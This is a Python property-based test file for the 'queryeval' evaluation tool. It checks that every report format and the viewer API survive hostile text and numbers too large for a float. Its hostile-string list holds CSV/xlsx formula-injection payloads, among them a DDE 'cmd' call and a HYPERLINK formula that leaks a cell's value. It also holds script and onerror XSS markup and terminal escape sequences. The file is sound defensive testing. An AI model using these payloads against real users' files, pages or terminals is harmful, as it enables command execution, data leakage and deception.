"""Every report of every run kind over hostile text and numbers (issue 24): generative.

Hypothesis draws hostile strings (control characters, ESC sequences, formula prefixes
``= + - @``, HTML markup, rich markup) and numbers no float holds (a 400-digit integer,
``1e999``, NaN), and puts them

* into every text field of a suite and its recorded answers, for a plain run, a run with
  ``--repeats`` whose cases are flaky, and a run whose calls fail (missing answers, answers
  holding a number no float holds), then renders the console summary, the results CSV, the
  xlsx report (its Repeats sheet too), the HTML report, ``queryeval compare`` in each of its
  formats and the viewer's API;
* into one text or number field of a finished run's files (records, batch, metrics), then
  renders the same reports from the damaged run.

What must hold: nothing crashes (a report is written, or the CLI prints one ``error:`` line
and exits 2; the viewer answers below 500), every xlsx cell is a value (never a formula) and
every hostile text a string cell, no ESC byte reaches stdout, HTML holds no live markup from
the data, CSV cells are neutralised.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from queryeval.cli.app import main

pytest.importorskip("starlette")
from starlette.testclient import TestClient  # noqa: E402

from queryeval.viewer.server import create_app  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
SCRIPT = "<script>alert('qe')</script>"
IMG = '<img src=x onerror="alert(1)">'
HOSTILE_TEXT = [
    "=HYPERLINK(\"http://x/?\"&B2,\"x\")", "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A9)",
    "\t=x", "[/x]", "[link=http://evil]x[/link]", "[bold red]loud", SCRIPT, IMG,
    "e\x1b]8;;http://evil\x1b\\y\x1b]8;;\x1b\\", "w\x1b[2J\x1b[31mred", "c\x9b2J", "a\x01b",
    "ctl" + "".join(chr(i) for i in range(32)) + "\x7f", "\u202eevil", "&amp;<b>&lt;",
]
HUGE = "9" * 400
REFUSED_NUMBERS = [HUGE, "-" + HUGE, "1e999", "-1e999", "NaN", "Infinity"]
RESAMPLES = "50"

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(alphabet=st.sampled_from(list("=+-@<>&\"'[]/ \t\x1b\x07\x00\x9bab")), min_size=1,
            max_size=12),
)


def _selection(ds: str, dim: str, vid: str) -> list[dict]:
    return [{"dataset_id": ds, "dimensions": [{"dimension_name": dim,
                                               "values": [{"id": vid, "name": vid}]}]}]


def _write_jsonl(path: Path, rows: list[dict], raw: dict[str, str] | None = None) -> Path:
    """``rows`` as JSONL; each ``"__N__"`` string named in ``raw`` becomes that raw JSON."""
    text = "".join(json.dumps(r) + "\n" for r in rows)
    for key, value in (raw or {}).items():
        text = text.replace(json.dumps(key), value)
    path.write_text(text, encoding="utf-8")
    return path


# --- the checks every rendering must pass -----------------------------------------------------
def assert_no_escape(text: str) -> None:
    assert "\x1b" not in text and "\x9b" not in text, repr(text[-500:])
    assert "Traceback" not in text, text[-2000:]


def assert_cli_ok_or_one_line(code: int, err: str, ok: tuple[int, ...] = (0,)) -> None:
    """A report was written (``ok``) or one ``error:`` line and exit 2; never a traceback."""
    assert_no_escape(err)
    if code == 2:
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), err[-2000:]
    else:
        assert code in ok, (code, err[-2000:])


def assert_xlsx_safe(path: Path, texts: list[str]) -> None:
    from queryeval.io.safetext import xlsx_text

    wb = openpyxl.load_workbook(path)
    cells = []
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type in ("s", "inlineStr", "n", "b"), (ws.title, c.coordinate, c.data_type, c.value)
                if isinstance(c.value, str):
                    cells.append(c.value)
    blob = "\n".join(cells)
    for t in texts:  # each hostile text is in a string cell, shown with visible escapes
        assert xlsx_text(t) in blob or xlsx_text(t)[:200] in blob, t


_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_html_safe(path: Path) -> None:
    html = path.read_text(encoding="utf-8")
    for live in (SCRIPT, IMG):
        at = html.find(live)
        assert at < 0, f"{path.name}: {html[max(0, at - 300):at + 100]!r}"
    # chart text (<text>, <title>, aria-label) shows controls as visible escapes (\x1b)
    for svg in re.findall(r"<svg\b.*?</svg>", html, flags=re.S):
        bad = _RAW_CONTROL.search(svg)
        assert bad is None, f"{path.name}: {svg[max(0, bad.start() - 200):bad.end() + 50]!r}"


def assert_csv_safe(path: Path) -> None:
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r") or (
                        cell[:1] == "-" and not _is_number(cell)):
                    raise AssertionError(f"{path.name}: cell not neutralised: {cell!r}")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def render_everything(capsys, runs: list[Path], texts: list[str]) -> None:
    """``queryeval report`` of each run, ``queryeval compare`` of the runs in every format,
    and the viewer's API over their folder; each rendering checked."""
    for batch in runs:
        code = main(["report", str(batch), "--resamples", RESAMPLES])
        out, err = capsys.readouterr()
        assert_no_escape(out)
        assert_cli_ok_or_one_line(code, err)
        if code == 0:  # the files are named by the batch's own id (a hostile one too)
            (html,) = batch.parent.glob("report_*.html")
            assert_html_safe(html)
            for xlsx in batch.parent.glob("report_*.xlsx"):
                assert_xlsx_safe(xlsx, texts)
            for results_csv in batch.parent.glob("results_*.csv"):
                assert_csv_safe(results_csv)
    folder = runs[0].parent.parent
    outs = folder / "cmp"
    outs.mkdir(exist_ok=True)
    formats = {"json": "c.json", "xlsx": "c.xlsx", "html": "c.html", "markdown": "c.md",
               "latex": "c.tex", "csv": "c.csv"}
    code = main(["compare", *map(str, runs), "--resamples", RESAMPLES,
                 *[a for fmt, name in formats.items() for a in (f"--{fmt}", str(outs / name))]])
    out, err = capsys.readouterr()
    assert_no_escape(out)
    assert_cli_ok_or_one_line(code, err, ok=(0, 1))
    if code in (0, 1):
        assert_html_safe(outs / "c.html")
        assert_xlsx_safe(outs / "c.xlsx", [])
        assert_csv_safe(outs / "c.csv")
        json.loads((outs / "c.json").read_text(encoding="utf-8"))
    client = TestClient(create_app(folder, resamples=int(RESAMPLES)), base_url="http://127.0.0.1",
                        raise_server_exceptions=False)
    listing = client.get("/api/runs")
    assert listing.status_code == 200, listing.text[-2000:]
    ids = [r["id"] for r in listing.json()["runs"]]
    assert ids
    for rid in ids:
        for url in (f"/api/runs/{rid}", f"/api/runs/{rid}/cases?limit=500"):
            resp = client.get(url)
            assert resp.status_code in (200, 422), (url, resp.status_code, resp.text[-2000:])
        resp = client.get(f"/api/runs/{rid}/cases?limit=500")
        if resp.status_code == 200:
            for row in resp.json()["rows"][:5]:
                cid = quote(row["case_id"], safe="")
                # every id is reachable, CR/LF and NUL too: by the page's query form, and by
                # its path unless it is "." or ".." (which a URL path resolves away)
                urls = [f"/api/runs/{rid}/case?id={cid}"]
                if row["case_id"] not in (".", ".."):
                    urls.append(f"/api/runs/{rid}/cases/{cid}")
                for url in urls:
                    one = client.get(url)
                    assert one.status_code == 200, (url, one.text[-2000:])
                    assert one.json()["row"]["case_id"] == row["case_id"]
    resp = client.get("/api/compare", params=[("run", i) for i in ids])
    assert resp.status_code in (200, 400, 404, 422), resp.text[-2000:]


# --- 1. hostile suites and answers, every run kind --------------------------------------------
def _suite_and_answers(tmp: Path, names: list[str], kind: str) -> tuple[Path, Path]:
    cases, answers = [], []
    for i, h in enumerate(names):
        cid = f"{h}#{i}"  # distinct ids, however the names were drawn
        cases.append({"id": cid, "name": h, "tags": [h], "conversation": [
            {"role": "user", "content": h, "target": {"indicator_selection": _selection(h, h, h)}}]})
        if kind == "errors" and i == 0:
            continue  # no answer: a failed call on this case
        repeats = (0, 1) if kind == "repeats" else (None,)
        for r in repeats:
            line = {"case_id": cid, "indicator_selection": _selection(h, h, h if r != 1 else "x" + h)}
            if r is not None:
                line["repeat"] = r
            answers.append(line)
    return _write_jsonl(tmp / "suite.jsonl", cases), _write_jsonl(tmp / "answers.jsonl", answers)


def _retrieval_suite(tmp: Path, names: list[str], scores: list[str]) -> tuple[Path, Path]:
    """The retrieval example's first questions with hostile questions, datasets and
    documents; each recorded answer's first score is drawn (a number no float holds makes
    the case malformed, and the run goes on)."""
    with open(REPO / "examples" / "retrieval" / "questions.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))[:len(names)]
    answers = []
    for i, (h, row) in enumerate(zip(names, rows, strict=True)):
        # plain ids (a CSV id is stripped): hostile ids are the other kinds' part
        row.update(id=f"q{i}", question=f"{h} {row['question']}", dataset=h, document_name=h)
        answers.append({"qa_pair_id": row["id"], "retrieved_chunks": [
            {"chunk_id": row["chunk_id"], "score": f"__S{i}__"},
            {"chunk_id": "rb-food-001", "score": 0.25}]})
    suite = tmp / "questions.csv"
    with open(suite, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return suite, _write_jsonl(tmp / "answers.jsonl", answers,
                               {f"__S{i}__": s for i, s in enumerate(scores)})


@settings(max_examples=6, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
          phases=[Phase.explicit, Phase.reuse, Phase.generate])  # no shrinking: slow
@example(names=["a\x01b", "n\x00\x1b[31m\x9bred"], kind="plain", scores=["0.5"] * 3)
@example(names=["c\r\nd", "e\x00f"], kind="repeats", scores=["0.5"] * 3)
@given(names=st.lists(hostile_text, min_size=2, max_size=3),
       kind=st.sampled_from(["plain", "repeats", "errors", "retrieval"]),
       scores=st.lists(st.sampled_from(["0.5", *REFUSED_NUMBERS]), min_size=3, max_size=3))
def test_every_report_of_every_run_kind_over_hostile_suites(tmp_path_factory, capsys, names, kind,
                                                            scores):
    tmp = tmp_path_factory.mktemp("kind")
    if kind == "retrieval":
        suite, resp = _retrieval_suite(tmp, names, scores[:len(names)])
        extra = ["--corpus", str(REPO / "examples" / "retrieval" / "corpus.jsonl"), "--k", "2"]
    else:
        suite, resp = _suite_and_answers(tmp, names, kind)
        extra = []
    runs = []
    for label in ("a", "b"):
        args = ["run", str(suite), "--responses", str(resp), "--out", str(tmp / "out" / label),
                "-c", "1", "--no-report", *extra]
        if kind == "repeats":
            args += ["--repeats", "2"]
        code = main(args)
        out, err = capsys.readouterr()
        assert_no_escape(out)  # the console summary: names shown, never as terminal codes
        assert code in (0, 3), err[-2000:]  # 3: every call failed
        runs.append(next(p for p in (tmp / "out" / label).rglob("batch_*.json")
                         if "derived_from" not in json.loads(p.read_text(encoding="utf-8"))))
    records = [json.loads(x) for x in next((tmp / "out" / "a").rglob("results_*.jsonl"))
               .read_text(encoding="utf-8").splitlines()]
    kinds = sorted(k for r in records for k in r.get("error_kinds", []))
    if kind == "errors":
        assert kinds == ["missing"], kinds
    if kind == "retrieval":
        assert len(records) == len(names)  # every case recorded, the refused ones malformed
        assert kinds == ["malformed"] * sum(s != "0.5" for s in scores[:len(names)]), kinds
    if kind == "repeats":
        metrics = json.loads(next((tmp / "out" / "a").rglob("metrics_*.json")).read_text())
        assert metrics["repeats"]["flaky_cases"] == len(names)  # every case flaky
    render_everything(capsys, runs, names)


# --- 2. a finished run's files, one field made hostile -------------------------------------------
@pytest.fixture(scope="module")
def finished_runs(tmp_path_factory) -> dict[str, Path]:
    """A plain and a repeats run of the sdmx example, each in its own folder."""
    tmp = tmp_path_factory.mktemp("finished")
    examples = REPO / "examples" / "sdmx"
    out = {}
    for kind, extra in (("plain", []), ("repeats", ["--repeats", "2"])):
        assert main(["run", str(examples / "suite"), "--responses",
                     str(examples / "responses.jsonl"), "--out", str(tmp / kind), "-q",
                     "--no-report", *extra]) in (0, 3)
        out[kind] = next((tmp / kind).rglob("batch_*.json")).parent
    return out


def _leaves(value, where=()):
    """(path, leaf) of every str and number leaf (booleans are no numbers)."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _leaves(v, (*where, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _leaves(v, (*where, i))
    elif isinstance(value, str) or (isinstance(value, (int, float)) and not isinstance(value, bool)):
        yield where, value


def _set(doc, where, value) -> None:
    for k in where[:-1]:
        doc = doc[k]
    doc[where[-1]] = value


@settings(max_examples=12, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
          phases=[Phase.explicit, Phase.reuse, Phase.generate])  # no shrinking: slow
@given(data=st.data(), kind=st.sampled_from(["plain", "repeats"]),
       which=st.sampled_from(["results", "batch", "metrics"]))
def test_every_report_of_a_run_with_one_hostile_field(tmp_path_factory, capsys, finished_runs,
                                                      data, kind, which):
    tmp = tmp_path_factory.mktemp("field")
    base = tmp / "runs" / "base"
    shutil.copytree(finished_runs["plain"], base)
    damaged = tmp / "runs" / "damaged"
    shutil.copytree(finished_runs[kind], damaged)
    target = next(damaged.glob(f"{which}_*.json*"))
    lines = target.read_text(encoding="utf-8").splitlines()
    if target.suffix == ".jsonl":
        index = data.draw(st.integers(0, len(lines) - 1), label="line")
        doc = json.loads(lines[index])
    else:
        index, doc = None, json.loads("\n".join(lines))
    leaves = list(_leaves(doc))
    where, old = data.draw(st.sampled_from(leaves), label="field")
    if isinstance(old, str):
        new = data.draw(hostile_text, label="text")
        _set(doc, where, new)
        text = json.dumps(doc)
        texts = [new]
    else:
        raw = data.draw(st.sampled_from(REFUSED_NUMBERS), label="number")
        _set(doc, where, "__NUMBER__")
        text = json.dumps(doc).replace('"__NUMBER__"', raw)
        texts = []
    if index is None:
        target.write_text(text + "\n", encoding="utf-8")
    else:
        lines[index] = text
        target.write_text("\n".join(lines) + "\n", encoding="utf-8")
    runs = [next(base.glob("batch_*.json")), next(damaged.glob("batch_*.json"))]
    if texts and where[-1] in ("batch_id", "log_schema"):
        texts = []  # the run is refused before any report
    render_everything(capsys, runs, [])
    if not texts:
        return
    # a text field the run still reads: every report of it opens, whatever the text
    code = main(["report", str(runs[1]), "--resamples", RESAMPLES])
    out, err = capsys.readouterr()
    assert_no_escape(out)
    assert_cli_ok_or_one_line(code, err)


def test_viewer_answers_422_for_a_run_file_integer_beyond_float_range(tmp_path):
    """Issue 24 item 7: a 400-digit per-case score in a retrieval run's
    ``results_<id>.jsonl`` was a 500 (the task's ``float()`` of it overflowed)."""
    ex = REPO / "examples" / "retrieval"
    assert main(["run", str(ex / "questions.csv"), "--corpus", str(ex / "corpus.jsonl"),
                 "--responses", str(ex / "responses.jsonl"), "--k", "3", "--out",
                 str(tmp_path / "V"), "-q", "--no-report"]) == 0
    batch = next(p for p in (tmp_path / "V").rglob("batch_*.json")
                 if "derived_from" not in json.loads(p.read_text(encoding="utf-8")))
    rid = batch.stem[len("batch_"):]
    results = batch.with_name(f"results_{rid}.jsonl")
    text = results.read_text(encoding="utf-8")
    key = '"recall@3": '
    start = text.index(key) + len(key)
    end = min(text.index(",", start), text.index("}", start))
    results.write_text(text[:start] + HUGE + text[end:], encoding="utf-8")
    client = TestClient(create_app(tmp_path / "V", resamples=int(RESAMPLES)),
                        base_url="http://127.0.0.1", raise_server_exceptions=False)
    for url in (f"/api/runs/{rid}", f"/api/runs/{rid}/cases"):
        resp = client.get(url)
        assert resp.status_code == 422, (url, resp.status_code, resp.text[-500:])
        message = resp.json()["error"]
        assert "scores.recall@3" in message and HUGE not in message
        assert "an integer of 400 digits is beyond the range of a float" in message
    assert client.get("/api/runs").status_code == 200
